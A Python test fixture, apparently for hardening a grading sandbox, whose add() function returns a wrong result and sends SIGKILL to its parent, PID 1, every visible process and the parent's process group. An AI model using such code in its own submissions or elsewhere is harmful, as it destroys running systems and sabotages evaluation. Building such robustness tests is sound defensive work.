"""Sends SIGKILL to its parent and to every process it can name."""

QUESTION = "q1"
MODULE = "arith"
ATTACKED = ["q1.1"]
KEEPS = ["q1.2", "q1.3"]
# Killing the zygote ends the sandbox: the answer may or may not get out before the worker goes with it.
REASON = ["expected 5.5", "died"]

import os as _os
import signal as _signal


def add(a, b):
    me = _os.getpid()
    targets = {_os.getppid(), 1} | {int(p) for p in _os.listdir("/proc") if p.isdigit()}
    for pid in sorted(targets):
        if pid != me:
            try:
                _os.kill(pid, _signal.SIGKILL)
            except OSError:
                pass
    try:
        _os.killpg(_os.getpgid(_os.getppid()), _signal.SIGKILL)
    except OSError:
        pass
    return a - b
